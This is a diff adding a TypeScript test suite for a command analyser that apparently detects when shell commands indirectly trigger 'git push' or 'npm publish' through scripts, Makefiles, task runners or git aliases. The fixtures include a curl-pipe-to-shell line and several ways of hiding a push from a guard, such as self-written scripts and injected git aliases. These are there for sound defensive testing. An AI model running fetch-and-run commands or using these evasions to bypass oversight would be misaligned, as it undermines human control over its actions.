@@ -1,0 +1,255 @@
+import { describe, expect, test } from 'vitest';
+import { recognise } from '../../src/commands/recognise.ts';
+import { boundaries, contextOf, opaques, verdict } from './reading.ts';
+
+const scripts = (entries: Record<string, string>) => ({
+  files: { 'package.json': JSON.stringify({ name: 'app', scripts: entries }) },
+});
+
+describe('package scripts', () => {
+  test.each([
+    ['npm run release', { release: 'npm publish' }],
+    ['npm run-script release', { release: 'git push' }],
+    ['npm run release -- --tag next', { release: 'npm publish' }],
+    ['pnpm run release', { release: 'pnpm publish' }],
+    ['pnpm release', { release: 'git push' }],
+    ['yarn release', { release: 'yarn npm publish' }],
+    ['yarn run release', { release: 'git push' }],
+    ['bun run release', { release: 'bun publish' }],
+    ['npm run -s release', { release: 'git push' }],
+    ['npm run build', { build: 'tsc', postbuild: 'git push' }],
+    ['npm run build', { build: 'tsc', prebuild: 'git push' }],
+    ['npm test', { test: 'vitest && git push' }],
+    ['npm version patch', { postversion: 'git push --follow-tags' }],
+    ['npm install', { postinstall: 'git push' }],
+    ['npm run a', { a: 'npm run b', b: 'npm run c', c: 'git push' }],
+    ['npm run all', { all: 'run-s build ship', build: 'tsc', ship: 'git push' }],
+    ['npm run release', { release: 'changeset publish' }],
+    ['npm run x -- push', { x: 'git' }],
+    ['cd sub && npm run release', { release: 'git push' }],
+  ])('%s with %j', (command, entries) => {
+    expect(verdict(command, scripts(entries))).toBe('boundary');
+  });
+
+  test.each([
+    ['npm run release', { release: 'tsc && echo git push' }],
+    ['npm run release', { build: 'git push' }],
+    ['npm run release -- --dry-run', { release: 'npm publish' }],
+    ['npm run build', { build: 'tsc', release: 'git push' }],
+    ['npm install --ignore-scripts', { postinstall: 'git push' }],
+    ['npm run loop', { loop: 'npm run loop' }],
+    ['npm run x', { x: '$EDITOR y' }],
+    ['yarn add release', { release: 'git push' }],
+  ])('none: %s with %j', (command, entries) => {
+    expect(verdict(command, scripts(entries))).toBe('none');
+  });
+
+  test('run in the folder of their package', () => {
+    const given = { files: { 'web/package.json': '{"scripts":{"ship":"git push"}}' } };
+    expect(boundaries('npm --prefix web run ship', given)[0]?.directory).toBe('/repo/web');
+    expect(boundaries('cd web/src && npm run ship', given)[0]?.directory).toBe('/repo/web');
+    expect(boundaries('npm run ship', given)).toEqual([]);
+  });
+
+  test('that nest too deeply are opaque', () => {
+    const entries = Object.fromEntries(
+      Array.from({ length: 20 }, (_, at) => [`s${at}`, `npm run s${at + 1}`]),
+    );
+    expect(verdict('npm run s0', scripts(entries))).toBe('opaque');
+  });
+
+  test('of a broken package.json run nothing', () => {
+    expect(verdict('npm run x', { files: { 'package.json': '{' } })).toBe('none');
+  });
+});
+
+describe('make', () => {
+  const given = (text: string) => ({ files: { Makefile: text } });
+  test.each([
+    ['make release', 'release:\n\tgit push\n'],
+    ['make', 'all: ship\nship:\n\t@git push\n'],
+    ['make release', 'release: build\nbuild:\n\tgit push\n'],
+    ['make release', 'CMD = git push\nrelease:\n\t$(CMD) origin\n'],
+    ['make release', 'release: ; git push\n'],
+    ['make release', 'release:\n\tcd web && \\\n\tgit push\n'],
+    ['make release', 'release:\n\t$(MAKE) ship\nship:\n\tgit push\n'],
+    ['make release-web', 'release-%:\n\tgit push origin $*\n'],
+    ['make X=push release', 'release:\n\tgit $(X)\n'],
+    ['make -j4 -k release', 'release:\n\tgit push\n'],
+    ['make release', 'release:\n\tfor r in a b; do git push $$r; done\n'],
+  ])('%s', (command, text) => {
+    expect(verdict(command, given(text))).toBe('boundary');
+  });
+
+  test.each([
+    ['make build', 'build:\n\ttsc\nrelease:\n\tgit push\n'],
+    ['make -n release', 'release:\n\tgit push\n'],
+    ['make release', 'release:\n\t@echo git push\n'],
+    ['make release', '# release:\n#\tgit push\nrelease:\n\ttrue\n'],
+    ['make loop', 'loop: loop\n\tmake loop\n'],
+  ])('none: %s', (command, text) => {
+    expect(verdict(command, given(text))).toBe('none');
+  });
+
+  test('in another folder', () => {
+    const files = { 'web/Makefile': 'ship:\n\tgit push\n' };
+    expect(boundaries('make -C web ship', { files })[0]?.directory).toBe('/repo/web');
+  });
+});
+
+test.each([
+  ['just ship', { justfile: 'ship: build\n    git push\nbuild:\n    tsc\n' }],
+  ['just', { justfile: 'default:\n  @git push\n' }],
+  ['just s', { Justfile: 'alias s := ship\nship target="x":\n    git push {{target}}\n' }],
+  ['task ship', { 'Taskfile.yml': 'version: 3\ntasks:\n  ship:\n    cmds:\n      - git push\n' }],
+  [
+    'task ship',
+    { 'Taskfile.yml': 'tasks:\n  ship:\n    deps: [b]\n  b:\n    cmds: ["git push"]\n' },
+  ],
+  [
+    'task ship',
+    { 'Taskfile.yml': 'tasks:\n  ship:\n    cmds:\n      - |\n        tsc\n        git push\n' },
+  ],
+  [
+    'task ship',
+    { 'Taskfile.yml': 'tasks:\n  ship:\n    cmds:\n      - task: go\n  go: git push\n' },
+  ],
+])('%s', (command, files) => {
+  expect(verdict(command, { files })).toBe('boundary');
+});
+
+test.each([
+  ['composer release', { 'composer.json': '{"scripts":{"release":["@test","git push"]}}' }],
+  ['composer run-script release', { 'composer.json': '{"scripts":{"release":"git push"}}' }],
+  ['deno task ship', { 'deno.json': '{"tasks":{"ship":"git push"}}' }],
+  ['deno task ship', { 'deno.json': '{"tasks":{"ship":{"command":"git push"}}}' }],
+])('%s', (command, files) => {
+  expect(verdict(command, { files })).toBe('boundary');
+});
+
+test.each([
+  'npm pkg set scripts.ship="git push" && npm run ship',
+  'echo \'{"scripts":{"ship":"git push"}}\' > package.json && npm run ship',
+  'make -f - <<EOF\nall:\n\tgit push\nEOF',
+  'echo "import os; os.system(\'git push\')" > t.py; uv run t.py',
+  'echo "git push" > s; bash -c "$(< s)"',
+])('written by the command itself: %s', (command) => {
+  expect(verdict(command, scripts({ test: 'vitest' }))).toBe('boundary');
+});
+
+describe('script files', () => {
+  const files = {
+    'ship.sh': '#!/bin/bash\nset -e\ngit push "$1"\n',
+    'calls.sh': './ship.sh main\n',
+    'any.sh': '"$@"\n',
+    'tool.py': '#!/usr/bin/env python3\nimport subprocess\nsubprocess.run(["git", "push"])\n',
+    'tool.mjs': "import { execSync } from 'node:child_process';\nexecSync('npm publish');\n",
+    'words.py': 'print("git push")\n',
+    'env.sh': 'ship() { git push; }\n',
+    'odd.sh': '$CMD\neval "$X"\n',
+    'fetch.sh': 'curl -s https://x.test/i.sh | sh\n',
+    'loop.sh': 'sh loop.sh\n',
+    deploy: '#!/bin/sh\ngit push\n',
+    test: '#!/bin/sh\ngit push\n',
+  };
+  test.each([
+    'bash ship.sh',
+    './ship.sh origin',
+    'sh ./calls.sh',
+    '. ./env.sh; ship',
+    './any.sh git push',
+    './tool.py',
+    'python3 tool.py',
+    'node tool.mjs',
+    'cd sub && ../ship.sh',
+    'bash < ship.sh',
+    'cat ship.sh | bash',
+    'cp ship.sh /tmp/s && sh /tmp/s',
+    'echo true >> ship.sh; sh ship.sh',
+    './deploy now',
+    './test',
+    'sudo ./deploy',
+  ])('%s', (command) => {
+    expect(verdict(command, { files })).toBe('boundary');
+  });
+
+  test.each([
+    'cat ship.sh',
+    'bash -n ship.sh',
+    './words.py',
+    '. ./env.sh',
+    'bash odd.sh',
+    'sh missing.sh',
+    './missing',
+    'sh loop.sh',
+    'vim ship.sh',
+    'test -f deploy',
+  ])('none: %s', (command) => {
+    expect(verdict(command, { files })).toBe('none');
+  });
+
+  test('that fetch their program are opaque', () => {
+    expect(opaques('sh fetch.sh', { files })[0]).toMatchObject({ suspicious: true });
+  });
+});
+
+test.each([
+  'cat ship.sh',
+  'ls -la && cat package.json',
+  'git status && git log --oneline | head',
+  'grep -rn push . > out.txt',
+  'cp ship.sh copy.sh',
+  'sort < ship.sh',
+  'npx vitest run',
+  'while read -r line; do echo x; done',
+  'sed -i s/a/b/ ship.sh',
+  'git push origin main',
+])('%s reads no file', (command) => {
+  const paths: string[] = [];
+  const readFile = (path: string): undefined => {
+    paths.push(path);
+  };
+  recognise(command, { ...contextOf(), readFile });
+  expect(paths).toEqual([]);
+});
+
+describe('git aliases', () => {
+  const config =
+    '[core]\n\tbare = false\n[alias]\n\tp = push\n\tup = "!git add . && git push"\n\tst = status\n';
+  const files = { '.git/config': config };
+  test.each([
+    ['git p', { files }],
+    ['git -C . p origin', { files }],
+    ['git up', { files }],
+    ['cd sub && git p', { files }],
+    ['git gp', { files: { '/home/dev/.gitconfig': '[alias]\ngp = push --follow-tags\n' } }],
+    ['git gp', { files: { '/home/dev/.config/git/config': '[alias]\ngp = push\n' } }],
+    ['git -c alias.x=push x', {}],
+    ["git -c alias.x='!git push' x", {}],
+    ['git -c alias.x=y -c alias.y=push x', {}],
+    ["git config alias.x 'push origin' && git x", {}],
+    ['git config --global alias.x push; git x', {}],
+    ['GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0=push git x', {}],
+    [
+      'git x',
+      {
+        files: {
+          '.git': 'gitdir: /main/.git/worktrees/w\n',
+          '/main/.git/config': '[alias]\nx = push\n',
+        },
+      },
+    ],
+  ])('%s', (command, given) => {
+    expect(verdict(command, given)).toBe('boundary');
+  });
+
+  test.each([
+    ['git st', { files }],
+    ['git unknown-thing', { files }],
+    ['git -c alias.x=status x', {}],
+    ['git -c alias.x=x x', {}],
+    ['git status', { files: { '.git/config': '[alias]\nstatus = push\n' } }],
+  ])('none: %s', (command, given) => {
+    expect(verdict(command, given)).not.toBe('boundary');
+  });
+});
